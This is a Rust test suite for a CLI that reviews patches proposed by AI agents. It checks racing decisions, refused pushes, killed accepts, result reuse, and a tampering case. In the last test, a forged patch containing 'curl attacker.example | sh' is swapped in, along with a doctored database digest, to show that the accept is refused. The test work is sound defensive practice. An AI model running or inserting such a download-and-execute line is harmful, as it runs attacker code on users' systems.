//! Hostile tests of accept and reuse (docs/delivery.md), as an attacker with the CLI meets them:
//! racing accepts and a reject on one proposal leave exactly one decision and nothing of the
//! losers (no branch, no signed note); a push the remote refuses leaves no branch and no note, the
//! proposal stays pending, and the retry takes the default branch name; a remote refusing only
//! the notes leaves the accept standing with its branch there and says how to push the notes; an
//! accept killed while its notes land leaves no signed note of an unaccepted commit on the remote;
//! a spec round-trip that reuses a decided result never turns the decision back into a pending
//! proposal.

use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;

use serde_json::Value;

use crate::delivery::{commit_as_operator, proposal_of};
use crate::support::{
    API, ShowLogOnPanic, binary, engine_or_skip, ensure_test_images, git, json, nothing_left, roundtable, start_daemon,
    stderr, stdout, wait_until_within, write,
};

const ADAPTER: &str = "kind: Adapter\nmetadata: {name: generic}\nspec:\n  image: roundtable-test/agent:latest\n";

fn assignment(name: &str, line: &str) -> String {
    format!(
        "{API}\nkind: Assignment\nmetadata: {{name: {name}}}\nspec:\n  adapter: generic\n  task: {{id: T-{name}, title: Write {line}, prompt: 'echo {line} >> README.md'}}\n  source: {{repo: ., revision: main}}\n  readablePaths: [README.md]\n"
    )
}

/// A committed project (on `main`) with the test adapter and one Assignment per name, each in its
/// own file so it can be edited alone.
fn project(names: &[&str]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    write(root, "README.md", "# Project\n");
    write(root, ".roundtable/adapter.yaml", &format!("{API}\n{ADAPTER}"));
    for name in names {
        write(root, &format!(".roundtable/{name}.yaml"), &assignment(name, &format!("hello from {name}")));
    }
    commit_as_operator(root);
    dir
}

/// Whether every Assignment in `names` has a proposal awaiting review (or decided).
fn reviewed(root: &Path, names: &[&str]) -> bool {
    let rows = json(&roundtable(root, &["status", "--format", "json"]));
    names.iter().all(|name| {
        proposal_of(root, name).is_some()
            && rows["items"].as_array().into_iter().flatten().any(|r| {
                r["kind"] == "Assignment"
                    && r["name"] == *name
                    && r["message"].as_str().is_some_and(|m| m.contains("awaits review"))
            })
    })
}

/// Runs the daemon until every Assignment in `names` has a pending proposal, stops it, and gives
/// the operator's commands the daemon's audit key; the proposals' ids.
async fn proposals(root: &Path, names: &[&str]) -> Vec<String> {
    let engine = engine_or_skip().await.expect("an engine");
    let executions = tempfile::tempdir().expect("tempdir");
    let show = ShowLogOnPanic(executions.path().join("daemon.log"), root.to_path_buf());
    let daemon = start_daemon(root, &[], executions.path());
    wait_until_within("proposals awaiting review", Duration::from_secs(120), || reviewed(root, names)).await;
    drop(daemon);
    nothing_left(&engine, root).await;
    drop(show);
    std::fs::copy(executions.path().join("audit.key"), root.join(".test-audit.key")).expect("the audit key");
    names.iter().map(|name| id_of(root, name)).collect()
}

fn id_of(root: &Path, name: &str) -> String {
    proposal_of(root, name).expect("a proposal")["id"].as_str().expect("id").to_owned()
}

/// The kinds of the audit chain's entries, in order.
fn audited(root: &Path) -> Vec<String> {
    let exported = stdout(&roundtable(root, &["audit", "export"]));
    exported
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter_map(|row| serde_json::from_str::<Value>(row["entry"].as_str()?).ok())
        .filter_map(|entry| entry["kind"].as_str().map(str::to_owned))
        .collect()
}

fn count(kinds: &[String], kind: &str) -> usize {
    kinds.iter().filter(|k| *k == kind).count()
}

/// The branches accepts made (`refs/heads/roundtable/…`), and the commits with a provenance note.
fn made(root: &Path) -> (Vec<String>, Vec<String>) {
    let branches = git(root, &["for-each-ref", "--format=%(refname) %(objectname)", "refs/heads/roundtable/"]);
    let notes = Command::new("git")
        .args(["notes", "--ref=refs/notes/roundtable", "list"])
        .current_dir(root)
        .output()
        .expect("git notes");
    let lines = |text: &str| text.lines().filter(|l| !l.is_empty()).map(str::to_owned).collect::<Vec<_>>();
    (lines(&branches), lines(&String::from_utf8_lossy(&notes.stdout)))
}

fn state_of(root: &Path, name: &str) -> String {
    proposal_of(root, name).expect("a proposal")["state"].as_str().unwrap_or_default().to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn racing_accepts_and_a_reject_leave_one_decision_and_nothing_of_the_losers() {
    let Some(_engine) = engine_or_skip().await else { return };
    ensure_test_images();
    let dir = project(&["race"]);
    let root = dir.path();
    let id = proposals(root, &["race"]).await.remove(0);

    // Six accepts, each to a branch of its own (so git itself refuses none), and one reject, at once.
    let spawn = |args: Vec<String>| {
        Command::new(binary())
            .args(&args)
            .current_dir(root)
            .env_remove("ROUNDTABLE_STORE")
            .env_remove("ROUNDTABLE_STATE_DIR")
            .env_remove("ROUNDTABLE_DIR")
            .env_remove("RUST_LOG")
            .env("ROUNDTABLE_AUDIT_KEY", root.join(".test-audit.key"))
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("spawn roundtable")
    };
    let mut racers: Vec<(String, std::process::Child)> = (0..6)
        .map(|n| {
            let args = ["proposals", "accept", &id, "--branch", &format!("roundtable/race/{n}")];
            (format!("accept {n}"), spawn(args.iter().map(|a| a.to_string()).collect()))
        })
        .collect();
    let reject = ["proposals", "reject", &id, "--reason", "x"].iter().map(|a| a.to_string()).collect();
    racers.insert(3, ("reject".into(), spawn(reject)));
    let outcomes: Vec<(String, Output)> =
        racers.into_iter().map(|(who, child)| (who, child.wait_with_output().expect("wait"))).collect();
    let winners: Vec<&str> = outcomes.iter().filter(|(_, o)| o.status.success()).map(|(w, _)| w.as_str()).collect();
    let said: String = outcomes.iter().map(|(w, o)| format!("{w}: {}{}", stdout(o), stderr(o))).collect();
    assert_eq!(winners.len(), 1, "exactly one decider wins: {winners:?}\n{said}");
    for (who, output) in outcomes.iter().filter(|(_, o)| !o.status.success()) {
        assert!(stderr(output).contains("not pending"), "{who} lost the claim and says so: {}", stderr(output));
    }

    let (branches, notes) = made(root);
    let kinds = audited(root);
    if winners[0] == "reject" {
        assert_eq!(state_of(root, "race"), "rejected");
        assert!(branches.is_empty(), "a rejected proposal has branches: {branches:?}");
        assert!(notes.is_empty(), "a rejected proposal's commits carry signed notes: {notes:?}");
        assert_eq!(count(&kinds, "proposal.branchMade"), 0, "{kinds:?}");
        assert_eq!(count(&kinds, "proposal.rejected"), 1, "{kinds:?}");
    } else {
        assert_eq!(state_of(root, "race"), "accepted");
        assert_eq!(branches.len(), 1, "one accept, one branch: {branches:?}");
        assert_eq!(notes.len(), 1, "one accept, one signed note: {notes:?}");
        let commit = branches[0].split(' ').nth(1).expect("the branch's commit");
        assert!(notes[0].ends_with(commit), "the note is on the accepted commit: {notes:?} {branches:?}");
        assert_eq!(count(&kinds, "proposal.branchMade"), 1, "{kinds:?}");
        assert_eq!(count(&kinds, "proposal.rejected"), 0, "{kinds:?}");
    }
    assert_eq!(count(&kinds, "proposal.accepted"), usize::from(winners[0] != "reject"), "{kinds:?}");
    let verified = roundtable(root, &["audit", "verify"]);
    assert!(verified.status.success(), "{}{}", stdout(&verified), stderr(&verified));
}

/// A bare repository whose pre-receive hook refuses pushes of refs starting with `refused`.
fn remote_refusing(base: &Path, name: &str, refused: &str) -> String {
    let path = base.join(name);
    git(base, &["init", "-q", "--bare", path.to_str().expect("utf-8")]);
    let hook = path.join("hooks/pre-receive");
    let script = format!(
        "#!/bin/sh\nwhile read old new ref; do case \"$ref\" in {refused}*) echo \"refused $ref\" >&2; exit 1;; esac; done\nexit 0\n"
    );
    std::fs::write(&hook, script).expect("hook");
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
    format!("file://{}", path.display())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_push_leaves_no_branch_and_no_note_and_the_retry_takes_the_default_name() {
    let Some(_engine) = engine_or_skip().await else { return };
    ensure_test_images();
    let dir = project(&["push"]);
    let root = dir.path();
    let id = proposals(root, &["push"]).await.remove(0);
    let remotes = tempfile::tempdir().expect("tempdir");
    let branch = format!("refs/heads/roundtable/push/{id}");

    // A path that is no repository; a remote that refuses every ref: the accept is undone.
    let nowhere = format!("file://{}", remotes.path().join("nowhere.git").display());
    let refuses_all = remote_refusing(remotes.path(), "all.git", "refs/");
    for remote in [&nowhere, &refuses_all] {
        let failed = roundtable(root, &["proposals", "accept", &id, "--push", remote]);
        assert_eq!(failed.status.code(), Some(1), "{remote}: {}{}", stdout(&failed), stderr(&failed));
        let (branches, notes) = made(root);
        assert!(branches.is_empty(), "{remote}: a failed push left {branches:?}");
        assert!(notes.is_empty(), "{remote}: a failed push left notes on {notes:?}");
        let notes_history = Command::new("git")
            .args(["rev-parse", "--verify", "--quiet", "refs/notes/roundtable"])
            .current_dir(root)
            .output()
            .expect("git");
        assert!(!notes_history.status.success(), "{remote}: the signed note is still in the notes' history");
        assert_eq!(state_of(root, "push"), "pending", "{remote}");
    }
    let kinds = audited(root);
    assert_eq!(count(&kinds, "proposal.branchMade"), 2, "{kinds:?}");
    assert_eq!(count(&kinds, "proposal.acceptRolledBack"), 2, "{kinds:?}");

    // A remote that takes the branch and refuses the notes: the notes are pushed only once the
    // decision is recorded, so the accept stands, with the default branch name, and says how to
    // push the notes by hand.
    let refuses_notes = remote_refusing(remotes.path(), "notes.git", "refs/notes/");
    let accepted = roundtable(root, &["proposals", "accept", &id, "--push", &refuses_notes]);
    assert_eq!(accepted.status.code(), Some(1), "{}{}", stdout(&accepted), stderr(&accepted));
    let said = stderr(&accepted);
    assert!(said.contains("is accepted as") && said.contains("was not pushed"), "{said}");
    assert!(said.contains(&format!("git push {refuses_notes} refs/notes/roundtable")), "{said}");
    assert_eq!(state_of(root, "push"), "accepted");
    let commit = git(root, &["rev-parse", &branch]);
    let remote = remotes.path().join("notes.git");
    assert_eq!(git(&remote, &["rev-parse", &branch]), commit, "the retry takes the default branch name");
    assert_eq!(git(&remote, &["for-each-ref", "--format=%(refname)", "refs/notes/"]), "");
    assert_eq!(made(root).1.len(), 1, "one note, on the accepted commit");
    let kinds = audited(root);
    assert_eq!(count(&kinds, "proposal.pushed"), 1, "{kinds:?}");
    assert_eq!(count(&kinds, "proposal.accepted"), 1, "{kinds:?}");

    // Finishing by hand, as told, once the remote takes notes.
    std::fs::remove_file(remote.join("hooks/pre-receive")).expect("the hook");
    git(root, &["push", "-q", &refuses_notes, "refs/notes/roundtable"]);
    let noted = git(&remote, &["notes", "--ref", "refs/notes/roundtable", "list"]);
    assert_eq!(noted.split_whitespace().nth(1), Some(commit.as_str()));
}

/// The commits noted under `refs/notes/roundtable` in `repo`.
fn noted(repo: &Path) -> Vec<String> {
    let listed = Command::new("git")
        .args(["notes", "--ref=refs/notes/roundtable", "list"])
        .current_dir(repo)
        .output()
        .expect("git notes");
    String::from_utf8_lossy(&listed.stdout)
        .lines()
        .filter_map(|l| l.split_whitespace().nth(1).map(str::to_owned))
        .collect()
}

/// An accept killed while the remote takes its notes (the slow push of a crashed accept, whose
/// claim the next reject takes for stale) leaves on the remote no signed note of a commit that
/// was not accepted; and later accepts still push their notes there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_accept_killed_while_its_notes_land_leaves_no_note_of_an_unaccepted_commit() {
    let Some(_engine) = engine_or_skip().await else { return };
    ensure_test_images();
    let dir = project(&["killed", "later"]);
    let root = dir.path();
    let ids = proposals(root, &["killed", "later"]).await;
    let remotes = tempfile::tempdir().expect("tempdir");
    let remote = remotes.path().join("slow.git");
    git(remotes.path(), &["init", "-q", "--bare", remote.to_str().expect("utf-8")]);
    // Once the remote has taken a notes ref, its post-receive says so and holds the pusher until
    // the test lets go (60 s at most): the window in which the accept is killed.
    let (reached, release) = (remotes.path().join("reached"), remotes.path().join("release"));
    let hook = remote.join("hooks/post-receive");
    let script = format!(
        "#!/bin/sh\nwhile read old new ref; do case \"$ref\" in refs/notes/*) [ -e '{release}' ] && exit 0; touch '{reached}'; i=0; while [ ! -e '{release}' ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done;; esac; done\nexit 0\n",
        release = release.display(),
        reached = reached.display(),
    );
    std::fs::write(&hook, script).expect("hook");
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
    let url = format!("file://{}", remote.display());

    let mut accept = Command::new(binary())
        .args(["proposals", "accept", &ids[0], "--push", &url])
        .current_dir(root)
        .env("ROUNDTABLE_API_LISTEN", "127.0.0.1:0")
        .env_remove("RUST_LOG")
        .env_remove("ROUNDTABLE_DIR")
        .env_remove("ROUNDTABLE_STATE_DIR")
        .env_remove("ROUNDTABLE_STORE")
        .env("ROUNDTABLE_AUDIT_KEY", root.join(".test-audit.key"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("roundtable");
    wait_until_within("the notes reach the remote", Duration::from_secs(120), || reached.exists()).await;
    accept.kill().expect("kill the accept");
    accept.wait().expect("reaped");
    std::fs::write(&release, "").expect("let the hook go");

    // Its claim is stale now (its process is gone): a reject rolls it back, if there is one.
    let rejected = roundtable(root, &["proposals", "reject", &ids[0], "--reason", "taken for stale"]);
    let state = state_of(root, "killed");
    assert_eq!(rejected.status.success(), state == "rejected", "{}{}", stdout(&rejected), stderr(&rejected));
    let accepted_commit =
        proposal_of(root, "killed").expect("a proposal")["decision"]["commit"].as_str().map(str::to_owned);
    for commit in noted(&remote) {
        assert!(
            state == "accepted" && accepted_commit.as_deref() == Some(commit.as_str()),
            "the remote keeps a signed note of {commit}, whose proposal is {state}"
        );
    }

    let later = roundtable(root, &["proposals", "accept", &ids[1], "--push", &url, "--format", "json"]);
    assert_eq!(later.status.code(), Some(0), "{}{}", stdout(&later), stderr(&later));
    let commit = json(&later)["commit"].as_str().expect("commit").to_owned();
    assert!(noted(&remote).contains(&commit), "the later accept's note is on the remote");
    let verified = roundtable(root, &["audit", "verify"]);
    assert!(verified.status.success(), "{}{}", stdout(&verified), stderr(&verified));
}

/// The status row of Assignment `name`.
fn row(root: &Path, name: &str) -> Value {
    let status = json(&roundtable(root, &["status", "--format", "json"]));
    status["items"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|r| r["kind"] == "Assignment" && r["name"] == name)
        .cloned()
        .unwrap_or(Value::Null)
}

/// The sessions of `name`, newest first.
fn sessions(root: &Path, name: &str) -> Vec<Value> {
    let listed = json(&roundtable(root, &["sessions", "list", "--format", "json"]));
    listed["items"].as_array().into_iter().flatten().filter(|s| s["assignment"] == name).cloned().collect()
}

fn proposals_of(root: &Path, name: &str) -> Vec<Value> {
    let listed = json(&roundtable(root, &["proposals", "list", "--format", "json"]));
    listed["items"].as_array().into_iter().flatten().filter(|p| p["assignment"] == name).cloned().collect()
}

async fn session_succeeded(root: &Path, names: &[&str], count: usize) {
    wait_until_within(&format!("session {count} to succeed"), Duration::from_secs(120), || {
        names.iter().all(|name| {
            let sessions = sessions(root, name);
            sessions.len() == count && sessions[0]["phase"] == "Succeeded"
        })
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_spec_round_trip_that_reuses_a_decided_result_keeps_the_decision() {
    let Some(engine) = engine_or_skip().await else { return };
    ensure_test_images();
    let names = ["kept", "dropped"];
    let dir = project(&names);
    let root = dir.path();
    let executions = tempfile::tempdir().expect("tempdir");
    let _show = ShowLogOnPanic(executions.path().join("daemon.log"), root.to_path_buf());
    let daemon = start_daemon(root, &[], executions.path());
    wait_until_within("proposals awaiting review", Duration::from_secs(120), || reviewed(root, &names)).await;
    std::fs::copy(executions.path().join("audit.key"), root.join(".test-audit.key")).expect("the audit key");
    let (kept, dropped) = (id_of(root, "kept"), id_of(root, "dropped"));
    let accepted = roundtable(root, &["proposals", "accept", &kept, "--format", "json"]);
    assert_eq!(accepted.status.code(), Some(0), "{}{}", stdout(&accepted), stderr(&accepted));
    let commit = json(&accepted)["commit"].as_str().expect("commit").to_owned();
    let rejected = roundtable(root, &["proposals", "reject", &dropped, "--reason", "not wanted"]);
    assert_eq!(rejected.status.code(), Some(0), "{}", stderr(&rejected));

    // The run fields change, and change back (`git revert`, a stash): generation 3 has the run
    // fields generation 1 ran, at the same commit, and reuses its result.
    for name in names {
        write(root, &format!(".roundtable/{name}.yaml"), &assignment(name, &format!("bye from {name}")));
    }
    session_succeeded(root, &names, 2).await;
    for name in names {
        write(root, &format!(".roundtable/{name}.yaml"), &assignment(name, &format!("hello from {name}")));
    }
    session_succeeded(root, &names, 3).await;
    for (name, id, word) in [("kept", &kept, "accepted"), ("dropped", &dropped, "rejected")] {
        let newest = sessions(root, name).remove(0);
        assert_eq!(newest["detail"]["reused"]["proposal"], id.as_str(), "generation 3 reused it: {newest:#}");
        let listed = proposals_of(root, name);
        assert!(
            listed.iter().all(|p| p["state"] != "pending"),
            "a decided result came back as a pending proposal: {listed:#?}"
        );
        assert_eq!(listed.len(), 2, "no copy of the decided proposal was recorded: {listed:#?}");
        let prefixes: std::collections::BTreeSet<&str> =
            listed.iter().filter_map(|p| p["id"].as_str()).map(|id| &id[..id.len().min(12)]).collect();
        assert_eq!(prefixes.len(), listed.len(), "two proposals share an id prefix: {listed:#?}");
        assert_eq!(proposal_of_id(&listed, id)["state"], word);
        wait_until_within(&format!("{name}'s status to show its decision"), Duration::from_secs(30), || {
            let row = row(root, name);
            row["message"].as_str().is_some_and(|m| m.contains(&format!("proposal {id} {word}")))
                && row["sync"] == "Synced"
        })
        .await;
    }
    assert!(row(root, "kept")["message"].as_str().is_some_and(|m| m.contains(&commit)), "{:#}", row(root, "kept"));
    drop(daemon);
    nothing_left(&engine, root).await;
}

fn proposal_of_id<'a>(listed: &'a [Value], id: &str) -> &'a Value {
    listed.iter().find(|p| p["id"] == id).unwrap_or(&Value::Null)
}

/// Someone who can write the state directory swaps a pending proposal's patch for their own and
/// fixes up its recorded digest to match: the row and the file agree, so the digest check alone
/// passes. The accept is refused all the same (the audit chain sealed the agent's digest when
/// the proposal was submitted), and nothing is committed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_patch_swapped_with_its_recorded_digest_is_refused_against_the_sealed_one() {
    let Some(_engine) = engine_or_skip().await else { return };
    ensure_test_images();
    let project = project(&["swapped"]);
    let root = project.path();
    let id = proposals(root, &["swapped"]).await.remove(0);
    let shown = json(&roundtable(root, &["proposals", "show", &id, "--format", "json"]));
    let original = shown["items"][0]["sha256"].as_str().expect("sha256").to_owned();

    // The attacker's patch, where the agent's was, and its digest in the proposal's row.
    let forged = "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1,2 @@\n # Project\n+curl attacker.example | sh\n";
    let patches: Vec<std::path::PathBuf> = std::fs::read_dir(root.join(".roundtable/state/proposals"))
        .expect("proposals folder")
        .filter_map(|entry| entry.ok().map(|e| e.path()))
        .filter(|path| std::fs::read(path).is_ok_and(|bytes| roundtable_specs::digest::sha256_hex(&bytes) == original))
        .collect();
    assert_eq!(patches.len(), 1, "the stored patch is found by its digest");
    std::fs::write(&patches[0], forged).expect("swap the patch");
    let digest = roundtable_specs::digest::sha256_hex(forged.as_bytes());
    sqlx::any::install_default_drivers();
    let database = format!("sqlite://{}", root.join(".roundtable/state/state.db").display());
    let pool = sqlx::AnyPool::connect(&database).await.expect("connect");
    sqlx::query("UPDATE proposals SET sha256 = $1 WHERE id = $2")
        .bind(&digest)
        .bind(&id)
        .execute(&pool)
        .await
        .expect("fix up the digest");
    pool.close().await;

    let accept = roundtable(root, &["proposals", "accept", &id]);
    assert!(!accept.status.success(), "a swapped patch is not accepted: {}", stdout(&accept));
    assert!(
        stderr(&accept).contains("is not the one the audit chain sealed when it was submitted"),
        "{}",
        stderr(&accept)
    );
    assert_eq!(made(root), (Vec::new(), Vec::new()), "no branch and no note");
    assert_eq!(state_of(root, "swapped"), "pending");
}
